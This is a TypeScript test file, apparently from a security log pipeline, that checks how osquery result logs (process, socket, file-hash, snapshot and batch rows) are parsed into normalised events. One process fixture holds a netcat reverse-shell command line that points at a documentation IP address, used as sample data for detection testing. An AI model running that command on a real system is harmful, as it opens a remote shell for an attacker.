import { describe, expect, it } from 'vitest';
import { expandOsqueryBatch, parseOsquery } from './osquery.ts';

const ctx = { receivedAt: new Date('2026-01-01T00:00:00Z') };
// shapes from the osquery docs (deployment/logging: "Results logs")
const envelope = {
  name: 'pack_incident-response_process_events',
  hostIdentifier: 'web-01',
  calendarTime: 'Tue Sep 30 17:37:30 2014 UTC',
  unixTime: 1412123850,
  epoch: 314159265,
  counter: 1,
  numerics: false,
  decorations: { host_uuid: '4AB2906D-5516-5794-AF54-86D1D7F533F3', username: 'ops' },
};

describe('parseOsquery', () => {
  it('maps a differential process row', () => {
    const r = parseOsquery(
      { ...envelope, columns: { pid: '4242', name: 'nc', path: '/usr/bin/nc', cmdline: 'nc -e /bin/sh 198.51.100.7 4444', uid: '33' }, action: 'added' },
      ctx,
    );
    expect(r.ok && r.event).toMatchObject({
      // the docs' sample disagrees with itself (calendarTime is 7 h off unixTime): unixTime wins
      occurredAt: new Date('2014-10-01T00:37:30Z'),
      kind: 'event',
      category: 'process',
      action: 'osquery.pack_incident-response_process_events.added',
      hostName: 'web-01',
      processName: 'nc',
      processCommandLine: 'nc -e /bin/sh 198.51.100.7 4444',
      fileName: null,
      attributes: { queryName: 'pack_incident-response_process_events', osqueryAction: 'added', counter: 1 },
    });
  });

  it('falls back to calendarTime, then to receivedAt', () => {
    const { unixTime, ...noUnix } = envelope;
    const cal = parseOsquery({ ...noUnix, columns: { username: 'x' } }, ctx);
    expect(cal.ok && cal.event.occurredAt.toISOString()).toBe('2014-09-30T17:37:30.000Z');
    const none = parseOsquery({ name: 'q', columns: {} }, ctx);
    expect(none.ok && none.event.occurredAt).toEqual(ctx.receivedAt);
  });

  it('maps a socket row and a file hash row', () => {
    const sock = parseOsquery(
      {
        ...envelope,
        name: 'open_sockets',
        columns: { pid: '', local_address: '10.0.0.4', local_port: '51514', remote_address: '203.0.113.66', remote_port: '4444', protocol: '6' },
        action: 'added',
      },
      ctx,
    );
    expect(sock.ok && sock.event).toMatchObject({
      category: 'network',
      srcIp: '10.0.0.4',
      srcPort: 51514,
      dstIp: '203.0.113.66',
      dstPort: 4444,
      transport: 'tcp',
    });
    const sha = 'E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855';
    const file = parseOsquery({ ...envelope, name: 'hashes', columns: { path: '/tmp/x', sha256: sha }, action: 'removed' }, ctx);
    expect(file.ok && file.event).toMatchObject({ category: 'file', fileName: '/tmp/x', fileSha256: sha.toLowerCase(), action: 'osquery.hashes.removed' });
  });

  it('turns a snapshot into one state event carrying the rows', () => {
    const r = parseOsquery({ ...envelope, name: 'listening_ports', action: 'snapshot', snapshot: [{ port: '22' }, { port: '443' }] }, ctx);
    expect(r.ok && r.event).toMatchObject({
      kind: 'state',
      action: 'osquery.listening_ports.snapshot',
      attributes: { rowCount: 2, rows: [{ port: '22' }, { port: '443' }] },
    });
  });

  it('splits batch diffResults into one record per row; a batch line alone is rejected', () => {
    const batch = { ...envelope, name: 'users', diffResults: { added: [{ username: 'eve' }, { username: 'mallory' }], removed: [{ username: 'bob' }] } };
    expect(parseOsquery(batch, ctx)).toEqual({ ok: false, reason: 'batch_record', field: 'diffResults' });
    const rows = expandOsqueryBatch(batch).map((r) => parseOsquery(r, ctx));
    expect(rows.map((r) => r.ok && [r.event.userName, r.event.attributes.osqueryAction])).toEqual([
      ['eve', 'added'],
      ['mallory', 'added'],
      ['bob', 'removed'],
    ]);
    expect(new Set(rows.map((r) => r.ok && r.event.dedupKey)).size).toBe(3);
  });

  it('rejects lines without name, columns or with a bad time', () => {
    expect(parseOsquery({ columns: {} }, ctx)).toEqual({ ok: false, reason: 'missing_field', field: 'name' });
    expect(parseOsquery({ name: 'q' }, ctx)).toEqual({ ok: false, reason: 'missing_field', field: 'columns' });
    expect(parseOsquery({ name: 'q', columns: {}, unixTime: 'soon' }, ctx)).toEqual({ ok: false, reason: 'invalid_timestamp', field: 'unixTime' });
  });
});
